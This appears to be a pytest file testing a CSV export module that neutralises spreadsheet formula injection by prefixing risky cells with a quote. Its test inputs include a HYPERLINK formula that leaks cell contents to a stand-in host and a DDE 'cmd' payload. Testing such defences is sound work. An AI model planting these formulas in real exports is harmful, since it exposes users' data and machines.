"""CSV formula neutralisation (OWASP CSV injection): what a spreadsheet would run gets a leading quote."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pandas as pd
import pytest

from analytics.csv_out import frame_to_csv, neutralise, rows_to_csv, write_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-cmd", "'-cmd"),
        ("\tsearch", "'\tsearch"),
        ("\r=1", "'\r=1"),
        ("=", "'="),
        # Text that merely contains the characters later is safe as it is.
        ("proj=alpha", "proj=alpha"),
        ("a@b.example", "a@b.example"),
        (" =1", " =1"),
        ("", ""),
        # Numbers written as text stay numbers: a credit of -1.50 must not become the text "'-1.50".
        ("-1.50", "-1.50"),
        ("+3", "+3"),
        ("-0.000125", "-0.000125"),
        ("-1e-6", "-1e-6"),
        ("-.5", "-.5"),
        # ...but only whole numbers: a number followed by anything else is text.
        ("-1.50+A1", "'-1.50+A1"),
        ("-1,50", "'-1,50"),
    ],
)
def test_text_cells_starting_a_formula_get_a_leading_quote(cell: str, written: str) -> None:
    assert neutralise(cell) == written


@pytest.mark.parametrize("number", [Decimal("-1.50"), -3, -0.25, 0, None, True])
def test_numbers_and_empty_cells_are_untouched(number: object) -> None:
    assert neutralise(number) is number


def test_a_frame_is_written_with_text_neutralised_and_numbers_kept() -> None:
    frame = pd.DataFrame(
        {
            "project": ['=HYPERLINK("http://x")', "@SUM(A1)", "web", None],
            "cost_usd": ["-1.50", "2.00", "+0.5", "3"],
            "requests": [1, -2, 3, 4],
            "share": [0.5, -0.25, 0.125, 0.0],
        }
    )
    text = frame_to_csv(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["project", "cost_usd", "requests", "share"],
        ['\'=HYPERLINK("http://x")', "-1.50", "1", "0.5"],
        ["'@SUM(A1)", "2.00", "-2", "-0.25"],
        ["web", "+0.5", "3", "0.125"],
        ["", "3", "4", "0.0"],
    ]
    assert frame.loc[0, "project"] == '=HYPERLINK("http://x")', "the caller's frame is not changed"


def test_a_column_name_is_neutralised_too() -> None:
    assert frame_to_csv(pd.DataFrame({"=evil": ["x"]})).splitlines()[0] == "'=evil"


def test_rows_are_written_with_header_and_cells_neutralised() -> None:
    handle = io.StringIO()
    write_csv(handle, ["date", "api_key", "cost_usd"], [("2025-06-01", "-key", Decimal("-0.75"))])
    assert handle.getvalue() == "date,api_key,cost_usd\n2025-06-01,'-key,-0.75\n"
    assert rows_to_csv(["a"], [["=1"]]) == "a\n'=1\n"
